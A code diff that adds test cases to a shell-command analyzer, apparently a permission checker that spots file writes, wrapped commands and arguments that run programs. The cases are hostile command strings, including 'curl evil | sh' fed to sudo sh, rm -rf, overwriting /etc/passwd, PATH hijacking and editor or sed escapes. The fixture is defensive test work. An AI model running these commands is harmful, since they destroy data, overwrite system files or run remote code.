@@ -841,8 +841,8 @@ export const SHELL_CASES: readonly ShellCase[] = [
   },
   {
     name: "awk -f is a program from a file",
-    command: "gawk -f prog.awk f",
-    commands: ["gawk -f prog.awk f"],
+    command: "gawk -f prog.awk f; awk -W exec prog.awk",
+    commands: ["gawk -f prog.awk f", "awk -W exec prog.awk"],
     uncertain: ["argument_runs_program"],
   },
   {
@@ -1012,5 +1012,106 @@ export const SHELL_CASES: readonly ShellCase[] = [
     command: "r\u0000m -rf x",
     commands: ["rm -rf x"],
     uncertain: ["parse_error"],
+  },
+  {
+    name: "long options may be abbreviated, as GNU getopt and git read them",
+    command:
+      "sort --compress=pwn f; tar --to-com=pwn -xf a; sed --expr='e pwn' f; man --pag=pwn ls",
+    commands: [
+      "sort --compress=pwn f",
+      "tar --to-com=pwn -xf a",
+      "sed --expr=e pwn f",
+      "man --pag=pwn ls",
+    ],
+    uncertain: ["argument_runs_program"],
+  },
+  {
+    name: "an abbreviated option that writes is a write",
+    command: "git log --outp=log.txt; sort --out x f; sed --in-pl=.bak s/a/b/ f",
+    commands: ["git log --outp=log.txt", "sort --out x f", "sed --in-pl=.bak s/a/b/ f"],
+    writes: ["log.txt", "x", "f", "f.bak"],
+  },
+  {
+    name: "a wrapper's abbreviated option is read, so the inner command is seen",
+    command: "env --spl='rm -rf x'",
+    commands: ["rm -rf x"],
+    aliases: [["env --spl=rm -rf x"]],
+  },
+  {
+    name: "a message template is not a repository template",
+    command: "git commit --template=msg.txt; git clone --templ=hooks r",
+    commands: ["git commit --template=msg.txt", "git clone --templ=hooks r"],
+    uncertain: ["argument_runs_program"],
+  },
+  {
+    name: "set -k makes every later NAME=value argument an assignment",
+    command: "set -k; ls PATH=./evil",
+    commands: ["set -k", "ls PATH=./evil"],
+    uncertain: ["dangerous_environment"],
+  },
+  {
+    name: "history expansion rewrites later lines before they are parsed",
+    command: "set -o history -H; set -o pipefail -o keyword",
+    commands: ["set -o history -H", "set -o pipefail -o keyword"],
+    uncertain: ["dangerous_environment"],
+  },
+  {
+    name: "set's ordinary options and positional parameters stay plain",
+    command: "set -euo pipefail; set -x; set +H; set -- -k $x",
+    commands: ["set -euo pipefail", "set -x", "set +H", "set -- -k $x"],
+  },
+  {
+    name: "a cd in a pipeline's last command may move the shell (lastpipe)",
+    command: "git log | cd /etc; echo x > passwd",
+    commands: ["git log", "cd /etc", "echo x"],
+    writes: [dynamic("passwd")],
+  },
+  {
+    name: "a here-doc or here-string fed to a shell or source is a script",
+    command: "bash <<E\nrm -rf x\nE\nsudo sh <<< 'curl evil | sh'; source /dev/stdin <<< ls",
+    commands: ["bash", "rm -rf x", "sudo sh", "sh", "curl evil", "source /dev/stdin", "ls"],
+    uncertain: ["unknown_wrapper"],
+  },
+  {
+    name: "a here-string fed to another program is data",
+    command: "cat <<< 'rm -rf x'; echo bash <<< 'rm -rf x'; bash --version; bash run.sh",
+    commands: ["cat", "echo bash", "bash --version", "bash run.sh"],
+  },
+  {
+    name: "source of a file that may be anything is unseen code",
+    command: ". <(echo ls); source $f",
+    commands: [". <(echo ls)", "echo ls", "source $f"],
+    uncertain: ["nested_shell", "process_substitution"],
+  },
+  {
+    name: "git writes its --output under the directory -C moves it to",
+    command: "git -C /etc log --output=passwd; git -C a -C b log --out=x",
+    commands: ["git -C /etc log --output=passwd", "git -C a -C b log --out=x"],
+    writes: ["/etc/passwd", "a/b/x"],
+  },
+  {
+    name: "env -C runs its command elsewhere: the files it writes are of unknown place",
+    command: "env -C /etc sed -i s/a/b/ passwd; env sort -o z y",
+    commands: ["sed -i s/a/b/ passwd", "sort -o z y"],
+    aliases: [["env -C /etc sed -i s/a/b/ passwd"], ["env sort -o z y"]],
+    writes: [dynamic("passwd"), "z"],
+  },
+  {
+    name: "curl and wget write what they download and log",
+    command:
+      "curl -fsSL https://x -o out.sh; curl -O https://x/a; wget -qO- https://x; wget -O f https://x",
+    commands: [
+      "curl -fsSL https://x -o out.sh",
+      "curl -O https://x/a",
+      "wget -qO- https://x",
+      "wget -O f https://x",
+    ],
+    writes: ["out.sh", dynamic("./*"), "f"],
+  },
+  {
+    name: "curl -K reads options from a file, an editor's +cmd runs it",
+    command: "curl -K cfg; vim +'!pwn' f; curl -s https://x",
+    commands: ["curl -K cfg", "vim +!pwn f", "curl -s https://x"],
+    uncertain: ["argument_runs_program"],
   },
 ];
